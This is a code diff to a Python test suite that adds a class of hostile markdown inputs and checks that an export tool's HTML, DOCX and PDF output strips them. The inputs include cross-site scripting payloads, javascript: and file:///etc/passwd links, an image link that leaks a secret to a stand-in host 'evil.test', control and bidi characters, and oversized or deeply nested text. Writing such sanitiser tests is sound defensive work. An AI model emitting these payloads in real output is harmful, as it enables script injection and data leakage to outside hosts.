@@ -2,6 +2,7 @@
 """Exported files as other programs read them. Usage: test-export-files.py EXPORT-DUMP"""
 
 import html.parser
+import json
 import os
 import pathlib
 import re
@@ -272,6 +273,63 @@ class Docx(Files):
     def test_long(self):
         headings = [style for style, _text in self.paragraphs(self.parts('5000')['word/document.xml']) if style == 'Heading1']
         self.assertEqual(len(headings), 5000)
+
+
+class Hostile(Files):
+    """What models may write to harm who exports it: markup, addresses, depth and size."""
+
+    @staticmethod
+    def texts():
+        found = ['<script>alert(1)</script><img src=x onerror=alert(1)>', '![x](https://evil.test/p.png?d=SECRET)',
+                 '[a](javascript:alert(1)) [b](data:text/html,x) [c](file:///etc/passwd) <https://evil.test/"onclick="x>',
+                 '[d](https://evil.test/\'x\\y) [e](https://evil.test/]]>--&amp;)', '</style></script><style>*{}</style>',
+                 'a\x01\x02\x08\x1b[2J\x7f b\ufffe\uffff c\u202e\u2028d', '`' * 3 + 'x" onclick="y\ncode\n' + '`' * 3,
+                 '>' * 300 + ' deep', ''.join('  ' * i + '- x\n' for i in range(150)), '*' * 5000 + 'a' + '*' * 5000,
+                 '|' + 'a|' * 200 + '\n|' + '-|' * 200 + '\n|' + 'b|' * 200,
+                 '| a | b |\n|---|---|\n' + '| c | d |\n' * 3000,
+                 '| a |\n|---|\n| ' + 'one cell that is longer than several pages ' * 1500 + '|',
+                 'x' * 100000, '深' * 50000, '```\n' + 'line\n' * 5000 + '```', '# ' + 'head ' * 3000,
+                 '$' + '\\frac{1}{' * 200 + 'x' + '}' * 200 + '$', '$$\\href{javascript:alert(1)}{x}$$',
+                 '[^a] [^a]\n\n[^a]: note [^a]', '1. ' * 100 + 'x', '999999999. big', '']
+        corpus = pathlib.Path(os.environ.get('SONDE_CONFORMANCE', ''), 'adversarial', 'markdown-security.json')
+        if corpus.is_file():
+            found += [case['input'] for case in json.loads(corpus.read_text(encoding='utf-8'))['cases']
+                      if isinstance(case.get('input'), str)]
+        return found
+
+    def hostile(self, name):
+        path = self.folder / 'texts.json'
+        path.write_text(json.dumps(self.texts()), encoding='utf-8')
+        return self.dump(name, path)
+
+    def test_html(self):
+        page = Page(self.hostile('html').read_text(encoding='utf-8'))
+        self.assertEqual((page.loads, page.events), ([], []))
+        self.assertFalse({'script', 'link', 'img', 'iframe', 'object', 'embed', 'base', 'form'} & set(page.elements))
+        self.assertEqual(page.elements.count('style'), 1)
+        for link in page.links:
+            self.assertRegex(link, r'^(https?://|mailto:|#)')
+        self.assertEqual(page.elements.count('article'), len(self.texts()))
+
+    def test_docx(self):
+        with zipfile.ZipFile(self.hostile('docx')) as archive:
+            for name in archive.namelist():
+                if name.endswith(('.xml', '.rels')):
+                    xml.etree.ElementTree.fromstring(archive.read(name))
+            targets = re.findall(r'Target="([^"]*)" TargetMode="External"', archive.read('word/_rels/document.xml.rels').decode())
+        for target in targets:
+            self.assertRegex(target, r'^(https?://|mailto:)')
+
+    @have('pdfinfo')
+    def test_pdf(self):
+        path = self.hostile('pdf')
+        self.assertGreater(int(re.search(r'Pages: +(\d+)', self.output('pdfinfo', path)).group(1)), 50)
+        for line in self.output('pdfinfo', '-url', path).splitlines()[1:]:
+            self.assertRegex(line.split()[-1], r'^(https?://|mailto:)')
+
+    def test_others(self):
+        for name in ('md', 'txt', 'json', 'openai', 'jsonl'):
+            self.assertGreater(self.hostile(name).stat().st_size, 100000)
 
 
 if __name__ == '__main__':
